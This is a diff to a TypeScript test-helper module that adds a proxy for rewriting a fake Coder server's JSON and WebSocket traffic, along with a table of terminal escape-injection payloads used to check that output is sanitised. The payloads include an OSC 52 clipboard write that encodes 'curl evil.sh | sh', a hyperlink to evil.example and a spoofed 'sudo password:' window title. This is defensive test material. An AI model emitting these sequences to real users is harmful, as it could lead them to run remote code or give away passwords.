@@ -1,12 +1,14 @@
 // Loopback servers that misbehave the ways a hostile or broken deployment can: accept and never answer, trickle an
-// answer a byte at a time, send far too much, or send a small gzip that inflates to gigabytes. Each one counts the
-// requests it saw and destroys its sockets on close, so a test never leaves a connection behind.
+// answer a byte at a time, send far too much, send a small gzip that inflates to gigabytes, or stand in front of a
+// fake Coder and rewrite what it says (terminal control sequences in every name, message and log line). Each one
+// counts the requests it saw and destroys its sockets on close, so a test never leaves a connection behind.
 import { once } from "node:events";
 import { createServer as createHttpServer, type IncomingMessage, type ServerResponse } from "node:http";
 import { createServer as createNetServer, type Server, type Socket } from "node:net";
 import { setFlagsFromString } from "node:v8";
 import { runInNewContext } from "node:vm";
 import { createGzip } from "node:zlib";
+import WebSocket, { WebSocketServer } from "ws";
 
 /** A running hostile server. */
 export interface HostileServer {
@@ -187,4 +189,140 @@ export async function peakRssGrowth<T>(
   clearInterval(sampler);
   peak = Math.max(peak, process.memoryUsage.rss());
   return { outcome, growth: peak - base };
+}
+
+/**
+ * What a hostile server or template author puts in a string, by what it would do to a terminal: each must reach
+ * the user as visible text, never as a control sequence.
+ */
+export const TERMINAL_ATTACKS: Readonly<Record<string, string>> = {
+  "OSC 52 (writes the clipboard)": "\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007",
+  "CSI 2J (clears the screen)": "\u001b[2J\u001b[H",
+  "OSC 8 (a hyperlink)": "\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\",
+  "OSC 0 (the window title)": "\u001b]0;sudo password:\u0007",
+  "C1 CSI (U+009B)": "\u009b2J",
+  "a bare carriage return": "ok\rERROR",
+  "SGR conceal": "\u001b[8mhidden",
+  "cursor up": "\u001b[3A",
+  "a lone ESC": "\u001b",
+};
+
+/** Every attack of {@link TERMINAL_ATTACKS} in one string. */
+export const ALL_TERMINAL_ATTACKS = Object.values(TERMINAL_ATTACKS).join("|");
+
+/**
+ * The control characters left in `text` once our own are taken out: the spinner's and the fleet block's cursor
+ * controls (`\r` + clear line, cursor up) and, where colour is on (`sgr`), plain SGR. Tab and newline are text.
+ */
+export function strayControls(text: string, sgr = false): string[] {
+  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
+  let rest = text.replace(/\r\u001b\[2K|\u001b\[\d+A/g, "");
+  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
+  if (sgr) rest = rest.replace(/\u001b\[[0-9;]*m/g, "");
+  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
+  return rest.match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/g) ?? [];
+}
+
+/** How a {@link rewritingProxy} changes what passes: JSON answers and WebSocket text frames, by request path. */
+export interface Rewrites {
+  /** A JSON answer's parsed body; returns the body to send. */
+  json?: (body: unknown, path: string) => unknown;
+  /** A text frame from upstream; returns the frames to send in its place (none drops it). */
+  frame?: (data: string, path: string) => string[];
+}
+
+/**
+ * A proxy in front of `upstream` (a fake Coder) that forwards every request and WebSocket as they are, except what
+ * `rewrites` changes: a deployment whose answers say what a hostile server would.
+ */
+export function rewritingProxy(upstream: string, rewrites: Rewrites): Promise<HostileServer> {
+  const counter = { hits: 0 };
+  const sockets = new Set<Socket>();
+  const server = createHttpServer(async (request, response) => {
+    counter.hits++;
+    response.on("error", () => {});
+    const path = new URL(request.url ?? "/", "http://x").pathname;
+    const chunks: Buffer[] = [];
+    for await (const chunk of request) chunks.push(chunk as Buffer);
+    const headers = new Headers();
+    for (const [name, value] of Object.entries(request.headers)) {
+      if (typeof value === "string" && !["host", "connection", "content-length"].includes(name))
+        headers.set(name, value);
+    }
+    try {
+      const answer = await fetch(`${upstream}${request.url}`, {
+        method: request.method,
+        headers,
+        body: chunks.length ? Buffer.concat(chunks) : undefined,
+        redirect: "manual",
+      });
+      let body = Buffer.from(await answer.arrayBuffer());
+      const type = answer.headers.get("content-type") ?? "";
+      if (rewrites.json && /json/.test(type) && body.length > 0) {
+        body = Buffer.from(JSON.stringify(rewrites.json(JSON.parse(body.toString("utf8")), path)));
+      }
+      const out: Record<string, string> = {};
+      answer.headers.forEach((value, name) => {
+        if (!["content-length", "content-encoding", "transfer-encoding", "connection"].includes(name))
+          out[name] = value;
+      });
+      response.writeHead(answer.status, out).end(body);
+    } catch {
+      response.destroy();
+    }
+  });
+  const wss = new WebSocketServer({ noServer: true });
+  server.on("upgrade", (request, socket, head) => {
+    const path = new URL(request.url ?? "/", "http://x").pathname;
+    const headers: Record<string, string> = {};
+    for (const [name, value] of Object.entries(request.headers)) {
+      if (
+        typeof value === "string" &&
+        !name.startsWith("sec-websocket") &&
+        !["host", "connection", "upgrade"].includes(name)
+      )
+        headers[name] = value;
+    }
+    const target = new WebSocket(`${upstream.replace(/^http/, "ws")}${request.url}`, {
+      headers,
+      perMessageDeflate: false,
+    });
+    target.on("error", () => socket.destroy());
+    target.on("unexpected-response", (_req, answer) => {
+      socket.end(`HTTP/1.1 ${answer.statusCode} Refused\r\nConnection: close\r\n\r\n`);
+      answer.resume();
+    });
+    target.on("open", () => {
+      wss.handleUpgrade(request, socket, head, (client) => {
+        target.on("message", (data, isBinary) => {
+          if (isBinary || !rewrites.frame) return void client.send(data, { binary: isBinary });
+          for (const frame of rewrites.frame(data.toString(), path)) client.send(frame);
+        });
+        target.on("close", (code) => (code === 1000 ? client.close(1000) : client.terminate()));
+        client.on("close", () => target.terminate());
+        client.on("error", () => target.terminate());
+      });
+    });
+  });
+  server.on("close", () => wss.close());
+  return serve(server, sockets, counter);
+}
+
+/**
+ * A copy of `value` where `poison(key, text, parent)` rewrote every string under an object key; arrays and objects
+ * are walked to the bottom.
+ */
+export function rewriteStrings(
+  value: unknown,
+  poison: (key: string, text: string, parent: Record<string, unknown>) => string,
+): unknown {
+  if (Array.isArray(value)) return value.map((v) => rewriteStrings(v, poison));
+  if (value === null || typeof value !== "object") return value;
+  const parent = value as Record<string, unknown>;
+  return Object.fromEntries(
+    Object.entries(parent).map(([key, v]) => [
+      key,
+      typeof v === "string" ? poison(key, v, parent) : rewriteStrings(v, poison),
+    ]),
+  );
 }
